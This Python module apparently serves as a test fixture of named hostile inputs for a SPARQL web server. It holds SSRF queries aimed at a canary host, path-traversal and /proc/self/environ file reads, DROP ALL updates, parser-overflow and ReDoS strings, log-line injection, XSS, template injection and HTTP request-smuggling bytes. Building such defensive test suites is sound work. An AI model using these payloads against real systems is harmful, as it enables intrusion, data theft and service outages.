"""What somebody may send to a server that should not answer it: queries, fields, paths and bytes, each with a name.

TARGET stands for the address of a canary, FIFO for a file that blocks and tells when it is opened, SECRET for a file whose
content must not come out. MARK is a line that must not appear in the log as a line of its own.
"""

from __future__ import annotations

from collections.abc import Mapping

MARK = "INFO: all is well"
LINES = f"\r\n{MARK}\r\n\x1b[31m{MARK}\u2028{MARK}\x00"
NEST = 2000

# ---- SPARQL: out to the network --------------------------------------------------------------------------------------
CALLS: Mapping[str, str] = {
    "service": "SELECT * { SERVICE <TARGETa> { ?x ?y ?z } }",
    "service silent": "SELECT * { SERVICE SILENT <TARGETb> { ?x ?y ?z } }",
    "service of a variable": "SELECT * { BIND(<TARGETc> AS ?g) SERVICE ?g { ?x ?y ?z } }",
    "service of values": "SELECT * { VALUES ?g { <TARGETc2> } SERVICE ?g { ?x ?y ?z } }",
    "service without a space": "PREFIX c: <TARGET> SELECT * { ?s ?p true.SERVICEc:d { ?x ?y ?z } }",
    "service in another case": "SELECT * { sErViCe <TARGETd> { ?x ?y ?z } }",
    "service escaped": "SELECT * { S\\u0045RVICE <TARGETe> { ?x ?y ?z } }",
    "service escaped long": "SELECT * { \\U00000053ERVICE <TARGETe2> { ?x ?y ?z } }",
    "service escaped twice": "SELECT * { \\u005Cu0053ERVICE <TARGETe3> { ?x ?y ?z } }",
    "service behind a comment": 'SELECT * { # " \n SERVICE <TARGETe4> { ?x ?y ?z } }',
    "service behind a carriage return": "SELECT * { #\rSERVICE <TARGETe5> { ?x ?y ?z } }",
    "service behind a string with an escape": 'SELECT * { ?s ?p "\\\\" . SERVICE <TARGETe6> {} }',
    "service in a subquery": "SELECT * { { SELECT * { OPTIONAL { SERVICE <TARGETe7> { ?x ?y ?z } } } } }",
    "service in exists": "ASK { FILTER EXISTS { SERVICE <TARGETe8> { ?x ?y ?z } } }",
    "service in construct": "CONSTRUCT { ?x ?y ?z } WHERE { SERVICE <TARGETe9> { ?x ?y ?z } }",
    "from": "SELECT * FROM <TARGETf> { ?x ?y ?z }",
    "from named": "SELECT * FROM NAMED <TARGETg> { GRAPH ?g { ?x ?y ?z } }",
    "from by base": "BASE <TARGET> SELECT * FROM <h> { ?x ?y ?z }",
    "graph": "SELECT * { GRAPH <TARGETj> { ?x ?y ?z } }",
    "describe": "DESCRIBE <TARGETk>",
    "a type of a literal": 'SELECT ("a"^^<TARGETl> AS ?x) {}',
    "a function": "SELECT (<TARGETm>(1) AS ?x) {}",
    "an IRI made of text": "SELECT * { BIND(IRI('TARGETn') AS ?x) GRAPH ?x { ?a ?b ?c } }",
    "load": "LOAD <TARGETi>",
    "load into a graph": "LOAD SILENT <TARGETi2> INTO GRAPH <x:g>",
}
# ---- SPARQL: to files ------------------------------------------------------------------------------------------------
FILES: Mapping[str, str] = {
    "from file": "SELECT * FROM <file://FIFO> { ?x ?y ?z }",
    "from named file": "SELECT * FROM NAMED <file://FIFO> { GRAPH ?g { ?x ?y ?z } }",
    "from a path": "SELECT * FROM <FIFO> { ?x ?y ?z }",
    "from a path by base": "BASE <file:///> SELECT * FROM <SECRET> { ?x ?y ?z }",
    "service of a file": "SELECT * { SERVICE <file://FIFO> { ?x ?y ?z } }",
    "graph of a file": "SELECT * { GRAPH <file://FIFO> { ?x ?y ?z } }",
    "load a file": "LOAD <file://FIFO>",
    "describe a file": "DESCRIBE <file://SECRET>",
    "from with dots": "SELECT * FROM <file:///tmp/../../../../SECRET> { ?x ?y ?z }",
    "from proc": "SELECT * FROM <file:///proc/self/environ> { ?x ?y ?z }",
    "from jar": "SELECT * FROM <jar:file:FIFO!/a> { ?x ?y ?z }",
    "from data": "SELECT * FROM <data:text/turtle,%3Cx:a%3E%20%3Cx:b%3E%20%3Cx:c%3E> { ?x ?y ?z }",
}
# ---- SPARQL: to change -----------------------------------------------------------------------------------------------
CHANGES: Mapping[str, str] = {
    "insert data": "INSERT DATA { <x:evil> <x:b> 1 }",
    "delete where": "DELETE WHERE { ?s ?p ?o }",
    "insert where": "INSERT { <x:evil> ?p ?o } WHERE { ?s ?p ?o }",
    "clear all": "CLEAR ALL",
    "drop all": "DROP ALL",
    "a query and an update": "SELECT * { ?s ?p ?o } ; INSERT DATA { <x:evil> <x:b> 1 }",
    "create": "CREATE GRAPH <x:evil>",
    "copy": "COPY DEFAULT TO <x:evil>",
}
# ---- SPARQL: to overflow the parser ----------------------------------------------------------------------------------
DEEP: Mapping[str, str] = {
    "groups": "SELECT * WHERE " + "{" * NEST + "?s ?p ?o" + "}" * NEST,
    "groups left open": "SELECT * WHERE " + "{" * 60000,
    "brackets": "SELECT (" + "(" * NEST + "1" + ")" * NEST + " AS ?x) {}",
    "blank nodes": "SELECT * { ?s ?p " + "[ ?p " * NEST,
    "lists": "SELECT * { ?s ?p " + "(" * NEST + ")" * NEST + " }",
    "triple terms": "SELECT * { " + "<<" * NEST + " ?s ?p ?o " + ">>" * NEST + " ?p ?o }",
    "paths": "SELECT * { ?s " + "<x:p>/" * 3000 + "<x:p> ?o }",
    "inverse paths": "SELECT * { ?s " + "^" * 5000 + "<x:p> ?o }",
    "negated paths": "SELECT * { ?s " + "!" * 5000 + "<x:p> ?o }",
    "stars": "SELECT * { ?s <x:p>" + "*" * 5000 + " ?o }",
    "nots": "SELECT * { FILTER(" + "!" * 20000 + "true) }",
    "minuses": "SELECT (" + "-" * 20000 + "1 AS ?x) {}",
    "sums": "SELECT (" + "1+" * 15000 + "1 AS ?x) {}",
    "ors": "SELECT * { FILTER(" + " || ".join(["true"] * 7000) + ") }",
    "unions": "SELECT * { " + "{} UNION " * 5000 + "{} }",
    "optionals": "SELECT * { " + "OPTIONAL {} " * 5000 + " }",
    "minus groups": "SELECT * { " + "MINUS {} " * 5000 + " }",
    "values": "SELECT * { VALUES ?x { " + "1 " * 30000 + "} }",
    "calls": "SELECT (" + "STR(" * 30 + "1" + ")" * 30 + " AS ?x) {}",
    "prefixes": "".join(f"PREFIX p{i}: <x:{i}>\n" for i in range(3000)) + "ASK {}",
    "columns": "SELECT " + " ".join(f"(1 AS ?v{i})" for i in range(4000)) + " {}",
    "many triples": "SELECT * { " + "?s ?p ?o . " * 5000 + "}",
    "a string left open": "SELECT * { ?s ?p '''" + "a" * 50000,
    "an IRI left open": "SELECT * { ?s <" + "a" * 50000,
    "comments": "#" * 60000,
    "escapes": "SELECT * { " + "\\u0020" * 10000 + "}",
    "an escape beyond Unicode": "SELECT ('\\UFFFFFFFF' AS ?x) {}",
    "half a character": "SELECT ('\\uD800' AS ?x) {}",
    "zero bytes": "\x00" * 100,
    "too long": "ASK {} #" + "x" * (64 << 10),
    "a number of 50,000 digits": "SELECT (" + "9" * 50000 + " * " + "9" * 10000 + " AS ?x) {}",
    "an exponent": "SELECT (1e999999999 AS ?x) (-1e-999999999 AS ?y) (1/0 AS ?z) {}",
    "a negative limit": "SELECT * { ?s ?p ?o } LIMIT -1",
    "a limit beyond 64 bits": "SELECT * { ?s ?p ?o } LIMIT 99999999999999999999999999",
}
# ---- SPARQL: to take time or memory ----------------------------------------------------------------------------------
PAIRS = "?a ?p ?b . ?c ?q ?d . ?e ?r ?f . ?g ?s ?h"
SLOW: Mapping[str, str] = {
    "a product that is counted": "SELECT (COUNT(*) AS ?n) { " + " ".join(f"?a{i} ?b{i} ?c{i} ." for i in range(9)) + " }",
    "a product that is sorted": f"SELECT * {{ {PAIRS} }} ORDER BY RAND()",
    "a product without doubles": f"SELECT DISTINCT ?a ?c ?e ?g {{ {PAIRS} }} ORDER BY ?g",
    "a product in one string": f"SELECT (GROUP_CONCAT(CONCAT(STR(?a), STR(?b), STR(?c), STR(?d))) AS ?x) {{ {PAIRS} }}",
    "a product in groups": f"SELECT ?a ?c ?e (SAMPLE(?h) AS ?x) {{ {PAIRS} }} GROUP BY ?a ?c ?e ?g",
    "a product as a graph": f"CONSTRUCT {{ ?a ?p ?b . ?c ?q ?d }} {{ {PAIRS} FILTER(RAND() > 2) }}",
    "paths of all": "SELECT * { ?a (<x:p>|!<x:p>)* ?b . ?c (<x:p>|!<x:p>)* ?d . ?e (<x:p>|!<x:p>)* ?f } ORDER BY ?a",
    "a pattern that goes back": 'SELECT (REPLACE("' + "a" * 40 + '!", "(a+)+$", "x") AS ?r) {}',
    "a pattern with a great count": 'SELECT * { ?s ?p ?o FILTER(REGEX(STR(?o), "((a{0,5000}){0,5000}){0,5000}")) }',
    "a string that doubles": "SELECT (STRLEN(?s20) AS ?n) { BIND('" + "a" * 1000 + "' AS ?s0) "
    + " ".join(f"BIND(CONCAT({', '.join([f'?s{i}'] * 4)}) AS ?s{i + 1})" for i in range(20)) + " }",
    "an answer of many megabytes": "SELECT ?x ?s { ?s ?p ?o . ?t ?q ?r { SELECT (REPLACE('" + "a" * 5000 + "', 'a', '"
    + "b" * 1000 + "') AS ?x) {} } }",
}  # fmt: skip
# ---- fields of the protocol ------------------------------------------------------------------------------------------
ASK = ("query", "ASK { ?s ?p ?o }")
FIELDS: Mapping[str, list[tuple[str, str]]] = {
    "a default graph elsewhere": [ASK, ("default-graph-uri", "TARGETaa")],
    "a named graph elsewhere": [ASK, ("named-graph-uri", "TARGETab")],
    "using a graph elsewhere": [ASK, ("using-graph-uri", "TARGETac")],
    "a default graph of a file": [ASK, ("default-graph-uri", "file://FIFO")],
    "a graph that is no IRI": [ASK, ("default-graph-uri", "<> } DROP ALL #")],
    "a graph with a line in it": [ASK, ("named-graph-uri", "x:a" + LINES)],
    "a thousand graphs": [ASK, *[("default-graph-uri", f"x:{i}") for i in range(1000)]],
    "two queries": [ASK, ASK],
    "no query": [("format", "json"), ("callback", "alert")],
    "an update": [("update", "DROP ALL")],
    "a query and an update": [ASK, ("update", "DROP ALL")],
    "lines in a query": [("query", "SELECT" + LINES)],
    "a long name of a field": [ASK, ("a" * 20000, "b")],
}
# ---- addresses of pages ----------------------------------------------------------------------------------------------
_Q = "%00%0d%0aINFO:%20all%20is%20well"
PATHS: Mapping[str, str] = {
    "up from static": "/static/../app.py",
    "up from static, escaped": "/static/%2e%2e/app.py",
    "up from static, escaped twice": "/static/%252e%252e/app.py",
    "up from static with backslashes": "/static/..%5c..%5capp.py",
    "an absolute path in static": "/static//etc/passwd",
    "up from downloads": "/download/..%2f..%2fetc%2fpasswd",
    "the secret as a download": "/download/secret.txt",
    "the pipe as a download": "/download/pipe",
    "a copy as a download": "/download/graph.trig.bak",
    "a zero in an id": "/id/%00",
    "lines in an id": "/id/a" + _Q,
    "a long id": "/id/" + "a" * 5000,
    "an id with a query in it": "/id/country/KR%3E%20%7B%7D%20%3B%20DROP%20ALL%20%23",
    "an id up": "/id/../../secret.txt",
    "a thing of a file": "/thing?iri=file%3A%2F%2FFIFO",
    "a thing elsewhere": "/thing?iri=TARGETba",
    "a thing that is a script": "/thing?iri=javascript:alert(1)",
    "a thing that is nothing": "/thing?iri=",
    "a thing with lines": "/thing?iri=x:a" + _Q,
    "a question up": "/questions/..%2fmemoranda",
    "a question of a picture": "/questions/%F0%9F%92%A9",
    "bytes that are no text": "/search?text=%ff%fe%c0%80",
    "half a character": "/ask?text=%ed%a0%80",
    "lines in a question": "/ask?text=" + _Q,
    "a long question": "/ask?text=" + "%D0%BC%D0%B5%D0%BC%D0%BE%D1%80%20" * 500,
    "a question of brackets": "/ask?text=" + "(" * 3000,
    "a question of digits": "/ask?text=" + "1." * 3000,
    "a question of quotes": "/ask?text=" + "%22%C2%AB" * 500,
    "a query in a question": "/ask?text=%7D%20SERVICE%20%3CTARGETbb%3E%20%7B%7D%20DROP%20ALL",
    "a query in a parameter": "/questions/memoranda?between=BY%22%20%7D%20SERVICE%20%3CTARGETbc%3E%20%7B%7D&and=KR",
    "a format that is a path": "/questions/memoranda?between=BY&and=KR&format=..%2f..%2fsecret.txt",
    "a language that is a path": "/?lang=..%2f..%2fsecret",
    "a template": "/ask?text=%7B%7Bconfig%7D%7D%7B%25%20include%20%22secret.txt%22%20%25%7D",
    "a script": "/search?text=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "two hundred fields": "/search?" + "&".join(f"text={i}" for i in range(200)),
    "nowhere": "/nope" + _Q,
}
# ---- bytes on the line -----------------------------------------------------------------------------------------------
_HOST = b"Host: 127.0.0.1\r\n"
_END = b"Connection: close\r\n\r\n"
BYTES: Mapping[str, bytes] = {
    "not HTTP": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 500,
    "the preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "no host": b"GET / HTTP/1.1\r\n" + _END,
    "another host": b"GET / HTTP/1.1\r\nHost: evil.example\r\n" + _END,
    "two hosts": b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: evil.example\r\n" + _END,
    "a host with lines": b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n INFO: all is well\r\n" + _END,
    "an address elsewhere": b"GET TARGETca HTTP/1.1\r\nHost: evil.example\r\n" + _END,
    "a tunnel": b"CONNECT 127.0.0.1:22 HTTP/1.1\r\n" + _HOST + _END,
    "a trace": b"TRACE / HTTP/1.1\r\n" + _HOST + b"Cookie: secret\r\n" + _END,
    "a method of ours": b"INFO:all-is-well / HTTP/1.1\r\n" + _HOST + _END,
    "a zero in the path": b"GET /\x00 HTTP/1.1\r\n" + _HOST + _END,
    "an escape in the path": b"GET /\x1b[31mINFO HTTP/1.1\r\n" + _HOST + _END,
    "a long line": b"GET /" + b"a" * (200 << 10) + b" HTTP/1.1\r\n" + _HOST + _END,
    "many headers": b"GET / HTTP/1.1\r\n" + _HOST + b"".join(b"X-%d: a\r\n" % i for i in range(20000)) + _END,
    "a long header": b"GET / HTTP/1.1\r\n" + _HOST + b"X: " + b"a" * (300 << 10) + b"\r\n" + _END,
    "a header that is an answer": b"GET / HTTP/1.1\r\n" + _HOST + b"Accept: a\rSet-Cookie: b\r\n" + _END,
    "ten thousand kinds that are accepted": b"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\n" + _HOST + b"Accept: "
    + b"a/b;q=0.1," * 6000 + b"*/*\r\n" + _END,
    "qualities that are no numbers": b"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\n" + _HOST
    + b"Accept: */*;q=nan, a/b;q=1e999, c/d;q=-1\r\n" + _END,
    "languages that are none": b"GET / HTTP/1.1\r\n" + _HOST + b"Accept-Language: " + b"x-\xff;q=1," * 500 + b"\r\n" + _END,
    "two lengths": b"POST /sparql HTTP/1.1\r\n" + _HOST + b"Content-Length: 5\r\nContent-Length: 6\r\n" + _END + b"ASK {}",
    "a length and chunks": b"POST /sparql HTTP/1.1\r\n" + _HOST + b"Content-Type: application/sparql-query\r\n"
    b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n" + _END + b"0\r\n\r\nGET /download/secret.txt HTTP/1.1\r\n\r\n",
    "a length below nothing": b"POST /sparql HTTP/1.1\r\n" + _HOST + b"Content-Length: -1\r\n" + _END,
    "a length beyond all": b"POST /sparql HTTP/1.1\r\n" + _HOST + b"Content-Length: " + b"9" * 30 + b"\r\n" + _END,
    "chunks that are none": b"POST /sparql HTTP/1.1\r\n" + _HOST + b"Transfer-Encoding: chunked\r\n" + _END + b"zz\r\n",
    "an encoding that unpacks": b"POST /sparql HTTP/1.1\r\n" + _HOST + b"Content-Type: application/sparql-query\r\n"
    b"Content-Encoding: gzip\r\nContent-Length: 4\r\n" + _END + b"\x1f\x8b\x08\x00",
    "a form of parts": b"POST /sparql HTTP/1.1\r\n" + _HOST + b"Content-Type: multipart/form-data; boundary=a\r\n"
    b"Content-Length: 5\r\n" + _END + b"--a--",
    "a socket of the web": b"GET /sparql HTTP/1.1\r\n" + _HOST + b"Upgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
    "a range of a file": b"GET /download/graph.trig HTTP/1.1\r\n" + _HOST + b"Range: bytes="
    + b",".join(b"%d-%d" % (i, i + 1) for i in range(0, 4000, 2)) + b"\r\n" + _END,
    "a range backwards": b"GET /download/graph.trig HTTP/1.1\r\n" + _HOST + b"Range: bytes=9-1,-99999999999999999999\r\n" + _END,
    "a hundred requests at once": (b"GET /healthz HTTP/1.1\r\n" + _HOST + b"\r\n") * 100 + b"GET / HTTP/1.1\r\n" + _HOST + _END,
}  # fmt: skip
